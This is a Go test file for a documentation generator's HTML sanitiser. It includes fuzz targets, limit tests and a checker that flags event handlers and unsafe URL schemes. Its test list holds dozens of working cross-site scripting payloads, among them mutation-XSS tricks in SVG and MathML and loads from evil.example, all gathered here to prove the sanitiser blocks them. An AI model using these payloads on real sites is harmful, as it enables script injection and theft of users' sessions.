package htmlpolicy

import (
	"errors"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/lectern-docs/lectern/internal/foundation/htmlbuf"
	"github.com/lectern-docs/lectern/internal/mdx/ast"
	"github.com/lectern-docs/lectern/internal/render/cssstyle"
	"github.com/lectern-docs/lectern/internal/site"
	"github.com/lectern-docs/lectern/internal/site/link"
	"github.com/lectern-docs/lectern/internal/testkit/cputime"
)

// drawer writes a tree the way the renderer does: it checks every name, resolves every URL and escapes everything else.
type drawer struct {
	htmlbuf.Buffer
	from link.From
}

func newDrawer() *drawer {
	s := &site.Site{Pages: []*site.Page{{Path: "index"}}}
	return &drawer{from: link.New(s, link.Clean, "https://docs.example.com", "index").From("index", "index")}
}

func (d *drawer) nodes(list []ast.Node) {
	for _, n := range list {
		switch n := n.(type) {
		case *ast.Text:
			d.Text(n.Value)
		case *ast.Element:
			d.element(n)
		}
	}
}

func (d *drawer) element(e *ast.Element) {
	p, ok := Element(e.Name)
	if !ok {
		if !p.Drop {
			d.nodes(e.Children)
		}
		return
	}
	d.Raw("<")
	d.Name(p.Name)
	seen := map[string]bool{}
	for _, a := range e.Props {
		d.attr(p.Name, a, seen)
	}
	for _, x := range Added(p.Name, func(n string) bool { return seen[n] }) {
		d.pair(x.Name, x.Value)
	}
	d.Raw(">")
	switch {
	case p.Void:
		return
	case p.Style:
		d.Trusted([]byte(StyleText(ast.PlainText(e.Children))))
	case !p.Empty:
		d.nodes(e.Children)
	}
	d.Raw("</")
	d.Name(p.Name)
	d.Raw(">")
}

func (d *drawer) attr(element string, a ast.Prop, seen map[string]bool) {
	name, value, kind, ok := AttrOf(element, a.Name, a.Value)
	if !ok || kind == Nothing || kind == InnerHTML || seen[name] {
		return
	}
	switch kind {
	case URL, Image:
		if value = d.from.Resolve(value).Href; value == "" {
			return
		}
	case SrcSet:
		var kept []Source
		for _, s := range Sources(value) {
			if s.URL = d.from.Resolve(s.URL).Href; s.URL != "" {
				kept = append(kept, s)
			}
		}
		value = JoinSources(kept)
	case Style:
		value, _ = cssstyle.Text(a.Value)
	}
	seen[name] = true
	d.pair(name, value)
}

func (d *drawer) pair(name, value string) {
	d.Raw(" ")
	d.Name(name)
	d.Raw(`="`)
	var b htmlbuf.Buffer
	b.Attr("x", value) // for its escaping
	d.Trusted(b.Bytes()[len(` x="`):])
}

// harmless parses the output like a browser, with scripts on and off, and returns the parts that could run code or lead
// away from the site.
func harmless(out string) []string {
	var found []string
	for _, scripting := range []bool{true, false} {
		for _, context := range []atom.Atom{atom.Div, atom.Svg, atom.Td} {
			root := &html.Node{Type: html.ElementNode, Data: context.String(), DataAtom: context}
			nodes, err := html.ParseFragmentWithOptions(strings.NewReader(out), root,
				html.ParseOptionEnableScripting(scripting))
			if err != nil {
				found = append(found, err.Error())
			}
			for _, n := range nodes {
				for x := range n.Descendants() {
					found = append(found, suspicious(x)...)
				}
				found = append(found, suspicious(n)...)
			}
		}
	}
	return found
}

var leading = regexp.MustCompile(`^[a-z][a-z0-9+.-]*:`)

func suspicious(n *html.Node) (found []string) {
	if n.Type == html.CommentNode {
		return []string{"comment " + n.Data}
	}
	if n.Type != html.ElementNode {
		return nil
	}
	if _, ok := Element(n.Data); !ok && n.Data != "tbody" && n.Data != "html" && n.Data != "head" && n.Data != "body" {
		found = append(found, "element "+n.Data)
	}
	if n.Data == "iframe" && !hasAttr(n, "sandbox") {
		found = append(found, "frame without sandbox")
	}
	for _, a := range n.Attr {
		value := strings.ToLower(strings.TrimSpace(a.Val))
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "srcdoc", a.Key == "formaction", a.Key == "action",
			a.Key == "ping":
			found = append(found, "attribute "+a.Key)
		case a.Key == "href" || a.Key == "src" || a.Key == "poster" || a.Key == "background":
			if scheme := leading.FindString(value); scheme != "" && scheme != "http:" && scheme != "https:" &&
				scheme != "mailto:" || strings.ContainsAny(value, "\t\n\r") {
				found = append(found, a.Key+" "+value)
			}
		case a.Key == "style" && (strings.Contains(value, "javascript:") || strings.Contains(value, "vbscript:") ||
			strings.Contains(value, "expression(")):
			found = append(found, "style "+value)
		case strings.EqualFold(a.Key, "attributename") && strings.Contains(value, "href"):
			found = append(found, "animates "+value)
		}
	}
	return found
}

func hasAttr(n *html.Node, key string) bool {
	for _, a := range n.Attr {
		if a.Key == key {
			return true
		}
	}
	return false
}

// attacks are HTML strings that try to run a script. Their output must not contain any.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" oNeRrOr="alert(1)"/>`,
	`<img/src=x/onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)><circle onclick="alert(2)" r="2"/></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><script xlink:href="data:text/javascript,alert(1)"/></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>`,
	`<svg><use xlink:href="https://evil.example/x.svg#x"/></svg>`,
	`<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>`,
	`<svg><a><animate aTTributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>`,
	`<svg><set attributeName="xlink:href" to="javascript:alert(1)"/></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><image href="javascript:alert(1)"/><feImage href="data:text/html,x"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>`,
	`<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>`,
	`<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></desc>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>`,
	`<math><annotation-xml encoding="text/html"><style></style><img src=x onerror=alert(1)></annotation-xml></math>`,
	`<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<style></style><script>alert(1)</script>`,
	`<style>@import "javascript:alert(1)"; </sty\3cle></style><img src=x onerror=alert(1)>`,
	`<title></title><img src=x onerror=alert(1)>`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<div><template shadowrootmode=open><script>alert(1)</script></template></div>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#1;javascript:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a><area href="javascript:alert(1)">`,
	`<a href="\\evil.example">x</a><a ping="https://evil.example" href="/x">y</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe src="data:text/html,x"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<iframe sandbox="allow-top-navigation allow-scripts" src="https://evil.example"></iframe>`,
	`<iframe><img src=x onerror=alert(1)></iframe>`,
	`<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
	`<applet code=x><param name=x value=y></applet>`,
	`<base href="https://evil.example/"><a href="x">y</a>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href=x>`,
	`<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button><input type=image src=x></form>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<body onload=alert(1)><html onmouseover=alert(1)><frameset onload=alert(1)><frame src="javascript:alert(1)">`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<video><source onerror="alert(1)"></video><video poster="javascript:alert(1)" src="data:text/html,x"></video>`,
	`<audio src=x onerror=alert(1)><track onload=alert(1) src="javascript:alert(1)">`,
	`<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="width: expression(alert(1)); behavior: url(x)">x</div>`,
	`<table background="javascript:alert(1)"><td background="data:text/html,x"></table>`,
	`<img srcset="javascript:alert(1) 2x, data:text/html,x 3x, /a.png">`,
	`<p title="--><script>alert(1)</script>">`,
	`<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>`,
	`<a title="&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;"><title>`,
	`<x onclick=alert(1)>y</x><custom-element onclick=alert(1) is=x>y</custom-element>`,
	"<img src=`x` onerror=alert(1)><div style=\"x:`</style><script>`\">",
	`<select><iframe><select><img src=x onerror=alert(1)></select></iframe></select>`,
	`<table><style><!--</style></table><img src=x onerror=alert(1)>--></style></table>`,
	`<li value="1&quot; onclick=&quot;alert(1)">x</li>`,
	`<div id="x&quot;><script>alert(1)</script>">`,
}

func TestParsedHTMLNeverRunsScripts(t *testing.T) {
	for _, in := range attacks {
		nodes, err := Parse(in, ast.Span{})
		if err != nil {
			t.Errorf("%s: %v", in, err)
			continue
		}
		d := newDrawer()
		d.nodes(nodes)
		if found := harmless(string(d.Bytes())); len(found) > 0 {
			t.Errorf("%s\n\tgives %s\n\twith %q", in, d.Bytes(), found)
		}
	}
}

func TestCommonHTMLIsKept(t *testing.T) {
	for in, want := range map[string]string{
		`<p class="a">x <b>y</b><br>z</p>`:                               `<p class="a">x <b>y</b><br>z</p>`,
		`<svg viewBox="0 0 1 1"><path d="M0 0" stroke-width="2"/></svg>`: `<svg viewBox="0 0 1 1"><path d="M0 0" stroke-width="2"></path></svg>`,
		`<svg><lineargradient id="g"/></svg>`:                            `<svg><linearGradient id="g"></linearGradient></svg>`,
		`<a href="/" rel="noopener" target="_blank">x</a>`:               `<a href="/" rel="noopener" target="_blank">x</a>`,
		`<openai_key>x</openai_key>`:                                     `x`,
		`<style>a<b{} </style>`:                                          `<style>a\3c b{} </style>`,
		`<td>x</td>`:                                                     `x`,
		`<table><tr><td align="right">x</td></tr></table>`:               `<table><tbody><tr><td align="right">x</td></tr></tbody></table>`,
		`<iframe src="https://www.loom.com/embed/1" width="100%"></iframe>`: `<iframe src="https://www.loom.com/embed/1" width="100%" sandbox="` + sandboxWords +
			`" referrerpolicy="strict-origin-when-cross-origin" loading="lazy"></iframe>`,
	} {
		nodes, err := Parse(in, ast.Span{})
		d := newDrawer()
		d.nodes(nodes)
		if got := string(d.Bytes()); err != nil || got != want {
			t.Errorf("%s\n\tgives %s\n\twant  %s %v", in, got, want, err)
		}
	}
}

func TestParseHasLimits(t *testing.T) {
	for name, in := range map[string]string{
		"size": strings.Repeat("x", maxHTML+1), "nodes": strings.Repeat("<br>", maxNodes+1),
		"depth": strings.Repeat("<div>", maxDepth+10),
	} {
		if _, err := Parse(in, ast.Span{}); !errors.Is(err, ErrTooLarge) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestParseTimeIsLinear(t *testing.T) {
	for _, piece := range []string{"<b>", "<a><b>", "<p><i>", "</p>", "<table><tr><td>", "<svg><g>", "<a href=x>",
		"<b x=y>", "<font size=1>", "&amp;", "<select><option>", "<!--", "<div x", "<table>x", "<li><a>"} {
		took := func(size int) time.Duration {
			start := cputime.Used(t)
			_, _ = Parse(strings.Repeat(piece, size/len(piece)), ast.Span{})
			return cputime.Used(t) - start
		}
		// With four times the source, parsing should take about four times as long; if the time were quadratic, it
		// would take sixteen times as long. There are several tries because the garbage collector runs during some of
		// them.
		small, large := time.Hour, time.Hour
		const little = 300 * time.Millisecond // too short to compare
		for try := 0; try < 10 && (try == 0 || large > 8*small+little); try++ {
			small, large = min(small, took(maxHTML/8)), min(large, took(maxHTML/2))
		}
		if large > 8*small+little {
			t.Errorf("%q: an eighth of the cap takes %v, a half %v", piece, small, large)
		}
	}
}

func FuzzParsedHTMLIsHarmless(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, in string) {
		nodes, err := Parse(in, ast.Span{})
		if err != nil {
			return
		}
		d := newDrawer()
		d.nodes(nodes)
		if found := harmless(string(d.Bytes())); len(found) > 0 {
			t.Fatalf("%q gives %q with %q", in, d.Bytes(), found)
		}
	})
}

func FuzzWrittenTagsAreHarmless(f *testing.F) {
	for _, s := range [][4]string{
		{"a", "href", "javascript:alert(1)", "x"}, {"svg", "onLoad", "alert(1)", "<script>"},
		{"iframe", "srcDoc", "<script>", "<img onerror=x>"},
		{"style", "media", "x", "</style><script>"}, {"textarea", "defaultValue", "</textarea><img onerror=x>",
			"</textarea>"}, {"title", "x", "y", "</title><script>"},
		{"animate", "attributeName", "href", ""}, {"use", "xlinkHref", "data:x", ""},
		{"div", "style", "background:url(javascript:x)", ""}, {"noscript", "a", "b", "</noscript>"},
		{"img", "srcSet", "javascript:x 2x", ""}, {"foreignObject", "class", "x\" onclick=\"y", "<p>"},
		{"option", "value", "x", "</select><script>"},
	} {
		f.Add(s[0], s[1], s[2], s[3])
	}
	f.Fuzz(func(t *testing.T, element, name, value, text string) {
		inner := &ast.Element{Name: element, Props: []ast.Prop{{Name: name, Value: value}},
			Children: ast.Children{&ast.Text{Value: text}}}
		for _, around := range []string{"svg", "math", "style", "title", "textarea", "select", "table", "foreignObject",
			"desc", "mtext", "p"} {
			d := newDrawer()
			d.element(&ast.Element{Name: around, Children: ast.Children{inner}})
			if found := harmless(string(d.Bytes())); len(found) > 0 {
				t.Fatalf("%q with %q=%q gives %q with %q", element, name, value, d.Bytes(), found)
			}
		}
	})
}
